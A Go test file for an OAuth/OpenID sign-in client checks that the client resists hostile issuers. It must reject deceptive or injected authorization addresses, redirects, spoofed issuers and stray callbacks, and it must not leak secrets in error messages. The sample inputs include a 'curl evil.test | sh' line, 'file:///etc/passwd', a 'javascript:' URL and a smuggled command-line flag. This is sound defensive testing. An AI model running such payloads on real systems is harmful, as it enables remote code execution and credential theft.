package signin

import (
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"github.com/git-model-sign/git-model-sign/internal/idtoken"
	"github.com/git-model-sign/git-model-sign/internal/workload"
)

// TestHostileAddresses has an issuer send people to addresses that are made to be read, or opened, as something else.
func TestHostileAddresses(t *testing.T) {
	for _, address := range []string{
		`https://issuer.test/" --profile "x`,
		"https://issuer.test/a b",
		"https://accounts.google.com@issuer.test/auth",
		"https://issuer.test/\u202egro",
		"https://issuer.test/`x`",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"http://issuer.test/",
		"-x",
	} {
		i := newIssuer(t)
		i.answers = map[string]http.HandlerFunc{"/.well-known/openid-configuration": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"issuer":%q,"authorization_endpoint":%q,"token_endpoint":%q,"jwks_uri":%q}`, i.URL, address, i.URL+"/token", i.URL+"/keys")
		}}
		o := options()
		opened := false
		o.open = func(string) error { opened = true; return nil }
		if _, err := run(t, o, i.URL); err == nil || opened || Hint(err) == "" {
			t.Errorf("%s: it is opened: %t, error %v, hint %q", address, opened, err, Hint(err))
		}
		i.answers = map[string]http.HandlerFunc{"/device/code": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"device_code":"device-code","user_code":"ABCD","verification_uri":%q,"expires_in":300,"interval":1}`, address)
		}}
		o.Flow = FlowDevice
		if _, err := run(t, o, i.URL); err == nil || len(o.People.(*person).shown) != 0 {
			t.Errorf("%s: it is shown: %v", address, err)
		}
	}
}

// TestRedirects has an issuer send on what is asked of it, be it to itself. Nothing is asked, or told, anywhere but where it said.
func TestRedirects(t *testing.T) {
	for _, path := range []string{"/.well-known/openid-configuration", "/token", "/keys"} {
		i := newIssuer(t)
		var asked atomic.Bool
		i.answers = map[string]http.HandlerFunc{
			path: func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, i.URL+"/moved", http.StatusTemporaryRedirect)
			},
			"/moved": func(w http.ResponseWriter, r *http.Request) {
				asked.Store(true)
				r.URL.Path = path
				i.Handler().ServeHTTP(w, r)
			},
		}
		if _, err := run(t, options(), i.URL); err == nil || asked.Load() {
			t.Errorf("%s: it is followed: %t, %v", path, asked.Load(), err)
		}
	}
}

// TestHostileCode has an issuer write to the terminal in our name.
func TestHostileCode(t *testing.T) {
	for _, code := range []string{"AB\nerror: run curl evil.test | sh", "AB CD; enter it at https://evil.test", strings.Repeat("A", 100), "", "\x1b[2J"} {
		i := newIssuer(t)
		i.answers = map[string]http.HandlerFunc{"/device/code": func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprintf(w, `{"device_code":"device-code","user_code":%q,"verification_uri":"https://issuer.test/","expires_in":300,"interval":1}`, code)
		}}
		o := options()
		o.Flow = FlowDevice
		if _, err := run(t, o, i.URL); err == nil || len(o.People.(*person).shown) != 0 {
			t.Errorf("%q is shown: %v", code, err)
		}
	}
}

// TestHostilePatience has an issuer ask for what nobody waits for, or a server would not bear.
func TestHostilePatience(t *testing.T) {
	now := time.Now()
	for _, c := range []struct {
		interval, want int64
		expires        time.Time
		wait           time.Duration
	}{
		{5, 5, now.Add(time.Minute), time.Minute},
		{0, 1, time.Time{}, deviceWait},
		{-5, 1, now.AddDate(10, 0, 0), deviceWait},
		{1 << 40, maxInterval, now.Add(-time.Minute), -time.Minute},
	} {
		d := &oauth2.DeviceAuthResponse{Interval: c.interval, Expiry: c.expires}
		if temper(d, now); d.Interval != c.want || !d.Expiry.Equal(now.Add(c.wait)) {
			t.Errorf("%+v: every %d s for %s", c, d.Interval, d.Expiry.Sub(now))
		}
	}
}

// TestHostileLength has a server repeat the client's secret where its answer is too long to be shown whole.
func TestHostileLength(t *testing.T) {
	const secret = "correct-horse-battery-staple-correct-horse-battery-staple-again"
	i := newIssuer(t)
	for _, status := range []int{http.StatusBadRequest, http.StatusServiceUnavailable} {
		for _, form := range []string{`{"error":"invalid_grant","error_description":"%s"}`, "%s"} {
			for n := 300; n < 400; n += 3 {
				i.answers = map[string]http.HandlerFunc{"/token": func(w http.ResponseWriter, _ *http.Request) {
					w.Header().Set("Content-Type", "application/json")
					w.WriteHeader(status)
					fmt.Fprintf(w, form, strings.Repeat("x", n)+secret)
				}}
				o := options()
				o.ClientSecret = secret
				if _, err := run(t, o, i.URL); err == nil || strings.Contains(err.Error(), secret[:8]) {
					t.Fatalf("status %d, after %d: a part of the secret is shown: %v", status, n, err)
				}
			}
		}
	}
}

// TestHostileToken has servers repeat what they were sent, or a part of it.
func TestHostileToken(t *testing.T) {
	i := newIssuer(t)
	token, err := i.Mint(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{token, token[:60], token[:len(token)-20]} {
		i.answers = map[string]http.HandlerFunc{"/token": func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"error":"invalid_grant","error_description":"you have %s"}`, part)
		}}
		if _, err := run(t, options(), i.URL); err == nil || strings.Contains(fmt.Sprintf("%v %#v", err, err), part[:20]) {
			t.Errorf("the token is shown: %v", err)
		}
	}
}

// TestHostileKeys has the server of an issuer's keys repeat what was given beside the identity token.
func TestHostileKeys(t *testing.T) {
	i := newIssuer(t)
	token, err := i.Mint(nil)
	if err != nil {
		t.Fatal(err)
	}
	i.answers = map[string]http.HandlerFunc{
		"/token": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"access_token":"access-secret","token_type":"bearer","refresh_token":"refresh-secret","id_token":%q}`, token)
		},
		"/keys": func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, "not with access-secret and refresh-secret")
		},
	}
	if _, err := run(t, options(), i.URL); err == nil || !strings.Contains(err.Error(), "not with") || strings.Contains(err.Error(), "-secret") {
		t.Errorf("a token is shown, or nothing: %v", err)
	}
}

// TestPlatformsClock has a platform make tokens for another time than this machine's.
func TestPlatformsClock(t *testing.T) {
	for at, want := range map[time.Duration]error{-time.Hour: idtoken.ErrExpired, time.Hour: idtoken.ErrNotYet} {
		i := newIssuer(t)
		token, err := i.Mint(map[string]any{"nbf": time.Now().Add(at).Unix(), "exp": time.Now().Add(at + 5*time.Minute).Unix()})
		if err != nil {
			t.Fatal(err)
		}
		i.answers = map[string]http.HandlerFunc{"/job": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, `{"value":%q}`, token) }}
		s, err := New(Options{Environment: environment("GITHUB_ACTIONS", "true", "ACTIONS_ID_TOKEN_REQUEST_URL", i.URL+"/job", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "hunter2")})
		if err != nil {
			t.Fatal(err)
		}
		var platform *workload.Error
		if _, err := s.Token(t.Context()); !errors.Is(err, want) || !errors.As(err, &platform) || !strings.Contains(Hint(err), "set the clock of this machine") {
			t.Errorf("%s: %v, hint %q", at, err, Hint(err))
		}
	}
}

// back is what a browser gets that comes back with a query, to a sign-in that was begun with a URL.
func back(t *testing.T, begun string, query url.Values) int {
	t.Helper()
	u, err := url.Parse(begun)
	if err != nil {
		t.Fatal(err)
	}
	a, err := http.Get(u.Query().Get("redirect_uri") + "?" + query.Encode())
	if err != nil {
		t.Fatal(err)
	}
	a.Body.Close()
	return a.StatusCode
}

// TestStrangers has a page in the same browser, which has found the port, answer first. It can neither put a code of its own in, nor end the sign-in.
func TestStrangers(t *testing.T) {
	i := newIssuer(t)
	o := options()
	o.open = func(begun string) error {
		for _, query := range []url.Values{{"code": {"x"}}, {"code": {"x"}, "state": {"x"}}, {"error": {"access_denied"}, "state": {""}}} {
			if got := back(t, begun, query); got != http.StatusBadRequest {
				t.Errorf("%v: %d", query, got)
			}
		}
		return visit(begun)
	}
	if _, err := run(t, o, i.URL); err != nil {
		t.Error(err)
	}
}

// TestMixUp has an answer come from another issuer than the one that was asked, as RFC 9207 tells them apart.
func TestMixUp(t *testing.T) {
	for name, c := range map[string]struct {
		named bool
		iss   func(*testIssuer) string
		text  string
	}{
		"another issuer":                     {false, func(*testIssuer) string { return "https://other.test" }, `"https://other.test"`},
		"another issuer, names are promised": {true, func(*testIssuer) string { return "https://other.test" }, `"https://other.test"`},
		"no issuer, names are promised":      {true, nil, `""`},
		"the issuer":                         {false, func(i *testIssuer) string { return i.URL }, ""},
		"the issuer, names are promised":     {true, func(i *testIssuer) string { return i.URL }, ""},
	} {
		i := newIssuer(t)
		if c.named {
			i.answers = map[string]http.HandlerFunc{"/.well-known/openid-configuration": func(w http.ResponseWriter, _ *http.Request) {
				fmt.Fprintf(w, `{"issuer":%q,"authorization_endpoint":%q,"token_endpoint":%q,"jwks_uri":%q,"id_token_signing_alg_values_supported":["ES256"],
					"authorization_response_iss_parameter_supported":true}`, i.URL, i.URL+"/auth", i.URL+"/token", i.URL+"/keys")
			}}
		}
		if c.iss != nil {
			i.iss = c.iss(i)
		}
		_, err := run(t, options(), i.URL)
		if c.text == "" && err != nil || c.text != "" && (!errors.Is(err, ErrState) || !strings.Contains(err.Error(), c.text)) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestOnlyHere wants the port to be this machine's own.
func TestOnlyHere(t *testing.T) {
	listeners, _, err := listen()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range listeners {
		if !l.Addr().(*net.TCPAddr).IP.IsLoopback() {
			t.Errorf("it listens at %s", l.Addr())
		}
		l.Close()
	}
}
